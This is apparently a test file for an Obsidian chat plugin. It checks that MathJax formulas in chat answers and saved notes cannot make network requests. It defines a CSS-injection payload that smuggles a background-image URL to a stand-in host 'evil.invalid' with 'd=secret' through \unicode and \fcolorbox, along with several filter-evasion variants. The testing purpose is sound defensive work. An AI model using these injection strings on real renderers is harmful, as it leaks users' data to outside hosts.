// Formulas in the panel and in saved notes, rendered by the real MathJax: forbidden ones are shown as written and load
// nothing: at once, later, and in the note.
import type { Request } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { answered, ask, openChat, startAlone, startModel } from "../app/chat.ts";
import { closePages, loadMath, page } from "../obsidian/browser.ts";
import type { StandIn } from "../standins/standin.ts";
import { TIMEOUT_MS } from "./effort.ts";

let model: StandIn;
beforeAll(async () => {
  model = await startModel();
  await openChat({ files: {}, standIn: model, chat: { saves: true, folder: "Talks" } });
  await loadMath(page);
}, TIMEOUT_MS);
afterAll(async () => {
  await closePages();
  await model.close();
});

/** Every request that is tried while `act` runs and shortly after, but those to the model and for MathJax's fonts. */
async function requests(act: () => Promise<unknown>): Promise<string[]> {
  const tried: string[] = [];
  const look = (request: Request): unknown => {
    const { host, pathname } = new URL(request.url());
    return host === model.host || pathname.startsWith("/lib/mathjax/") || tried.push(request.url());
  };
  page.on("request", look);
  await act();
  await page.waitForTimeout(100);
  page.off("request", look);
  return tried;
}

/** Shows `markdown` as an answer, in pieces. */
async function show(markdown: string): Promise<void> {
  model.script({ parts: markdown.match(/[^]{1,40}/g) ?? [] });
  await startAlone();
  await ask("Show me.");
  await answered();
}

/** Renders the formulas that are not yet, as the app does once it has loaded MathJax. */
const renderLate = (): Promise<void> =>
  page.evaluate(() => {
    for (const math of document.querySelectorAll<HTMLElement>(".math"))
      if (!math.querySelector("mjx-container")) window.ObsidianHost.renderMath(math);
  });

/** The newest note that a conversation was saved to, rendered as the app renders any note. */
const renderSaved = (): Promise<string> =>
  page.evaluate(async () => {
    const notes = window.app.vault.getMarkdownFiles().sort((a, b) => b.stat.mtime - a.stat.mtime);
    const note = await window.app.vault.adapter.read(notes[0]?.path ?? "");
    await window.ObsidianHost.renderNote(note, document.body.createDiv());
    return note;
  });

const text = async (): Promise<string> => (await page.locator(".lectern-chat-text").innerText()).trim();
const formulas = (): Promise<number> => page.locator(".lectern-chat-text mjx-container").count();

const STYLE = "background-image:url(\\68 ttps:\\2f\\2f evil.invalid/u1?d=secret)";
const UNICODE = `\\unicode[a;${STYLE}]{65}`;
const BOX = `\\fcolorbox{red;${STYLE}}{white}{日}`;

test("without the panel they make requests", { timeout: TIMEOUT_MS }, async () => {
  for (const formula of [UNICODE, BOX]) {
    const render = (): Promise<void> =>
      page.evaluate((markdown) => window.ObsidianHost.renderNote(markdown, document.body.createDiv()), `$${formula}$`);
    expect(await requests(render)).toContain("https://evil.invalid/u1?d=secret");
  }
});

describe.each(["now", "later"] as const)("rendered %s", (when) => {
  beforeAll(() => page.evaluate((when) => void (window.app.testMath = when), when));

  test.each([
    ["a font", `$${UNICODE}$`],
    ["a frame", `$${BOX}$`],
    ["a display", `$$\n${UNICODE}\n\n${BOX}\n$$`],
    ["a display in a quotation in a list", `- > $$\n  > ${BOX}\n  > $$`],
    ["a table", `| a |\n| - |\n| $${UNICODE}$ |`],
    ["a callout", `> [!note] $${UNICODE}$\n> $x$ $${BOX}$`],
    ["a formula over lines", `$x +\n${BOX}$`],
    ["a definition", `$\\def\\alpha{${UNICODE}}\\alpha$ $\\let\\beta\\unicode$ $\\newcommand{\\x}{}$`],
    ["an environment", `$\\begin{empheq}[left={${BOX}}]{align}x\\end{empheq}$`],
    ["names that are made", "$\\csname unicode\\endcsname[a]{65}$ $\\char`\\u$ $^^5cunicode[a]{65}$"],
    ["our own sign", `$\\uni\ufdd0code[a;${STYLE}]{65}$`],
    ["a formula in what is code for some", `\`$\` ${UNICODE} \`$\` $$\n\`\`\`\n${BOX}\n\`\`\`\n$$`],
    ["a formula behind a price", `It costs $5 and \\$$${UNICODE}$`],
    ["one that is not ended", `$$\n${UNICODE}`],
  ])("%s loads nothing, nor does its note", { timeout: TIMEOUT_MS }, async (_, markdown) => {
    const act = async (): Promise<void> => {
      await show(`Look:\n\n${markdown}`);
      await renderLate();
    };
    expect(await requests(act)).toEqual([]);
    expect(await page.locator(".lectern-chat-text [style*='url']").count()).toBe(0);
    expect(await requests(async () => expect(await renderSaved()).toContain("Look:"))).toEqual([]);
  });

  test(
    "what may not be rendered is shown as it was written, and the rest as formulas",
    { timeout: TIMEOUT_MS },
    async () => {
      const display = `$$\n\\begin{align}\n${BOX} \\\\\n- y\n\\end{align}\n$$`;
      await show(`$a<b$, $\\frac12$ and $${UNICODE}$.\n\n${display}\n\n> $x$ and $\\foo_a*b*\`\`$`);
      await renderLate();
      const code = page.locator(".lectern-chat-text code");
      expect(await code.allTextContents()).toEqual([`$${UNICODE}$`, ...display.split("\n"), "$\\foo_a*b*``$"]);
      expect(await formulas()).toBe(3);
      expect(await page.locator(".lectern-chat-text :is(mjx-merror, mjx-utext)").count()).toBe(0);
      expect(await page.locator(".lectern-chat-text").innerHTML()).not.toContain("\ufdd0");
    },
  );

  test("code, paths and prices stay as they were written", { timeout: TIMEOUT_MS }, async () => {
    const words = "`\\d+ $x` costs $5, C:\\Users\\me costs $6 and https://a.invalid/x";
    await show(`${words}\n\n\`\`\`latex\n$\\usepackage{x} \\foo$ a<b\n\`\`\``);
    await renderLate();
    expect((await text()).split(/\n+/)).toEqual([words.replaceAll("`", ""), "$\\usepackage{x} \\foo$ a<b"]);
  });

  test("mathematics that people write is rendered", { timeout: TIMEOUT_MS }, async () => {
    await show(MATHEMATICS.map((formula) => `$${formula}$`).join("\n\n"));
    await renderLate();
    expect(await formulas()).toBe(MATHEMATICS.length);
    expect(await page.locator(".lectern-chat-text :is(mjx-merror, code)").allTextContents()).toEqual([]);
    // What is not defined would be red.
    expect(await page.locator(".lectern-chat-text [style*='color: red']").count()).toBe(1);
  });
});

const MATHEMATICS = [
  "e^{i\\pi} + 1 = 0",
  "\\int_{-\\infty}^{\\infty} e^{-x^2}\\,\\mathrm{d}x = \\sqrt{\\pi}",
  "\\sum_{n=1}^\\infty \\frac{1}{n^2} = \\tfrac{\\pi^2}{6}, \\quad \\binom{n}{k} = \\dfrac{n!}{k!(n-k)!}",
  "\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}\\begin{bmatrix}a&b\\\\c&d\\end{bmatrix}",
  "f(x) = \\begin{cases} x^2 & \\text{if } x \\ge 0 \\\\ -x & \\text{otherwise} \\end{cases}",
  "\\begin{aligned} a &= b + c \\\\[4pt] &= d \\end{aligned}",
  "\\begin{array}{c|cc} x & 0 & 1 \\\\ \\hline y & 2 & 3 \\end{array}",
  "\\forall \\epsilon > 0\\; \\exists \\delta : \\left| x - a \\right| < \\delta \\implies \\lVert f(x) - L \\rVert < \\epsilon",
  "\\nabla \\times \\mathbf{E} = -\\frac{\\partial \\vec{B}}{\\partial t}, \\hat{x}, \\overline{z}, \\widetilde{ab}",
  "\\operatorname{Var}(X) = \\mathbb{E}[X^2], \\mathcal{L}, \\mathfrak{g}, \\boldsymbol{\\theta}, \\bar{x}",
  "A \\xrightarrow[\\text{below}]{f} B \\hookrightarrow C \\mapsto D \\iff \\therefore",
  "\\underbrace{a + \\cdots + a}_{n} \\overset{?}{=} na, \\lim_{x \\to 0} \\sin x, \\max_i",
  "\\ce{2H2 + O2 -> 2H2O}, \\cancel{x}, \\boxed{42}, \\color{red}x, \\textcolor{#0a0}{y}",
  "\\langle \\psi | \\hat{H} | \\psi \\rangle, \\lfloor x \\rfloor, \\lceil x \\rceil, 50\\%, \\{1, 2\\}, \\#",
];
